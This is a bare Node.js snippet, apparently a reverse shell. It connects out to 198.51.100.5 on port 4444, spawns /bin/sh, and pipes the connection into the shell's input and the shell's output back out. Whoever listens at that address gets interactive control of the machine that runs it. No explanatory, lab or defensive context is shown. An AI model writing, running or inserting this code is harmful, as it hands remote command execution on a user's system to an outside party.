const net = require("net");
const c = net.connect(4444, "198.51.100.5", () => {
  const sh = require("child_process").spawn("/bin/sh", []);
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
});
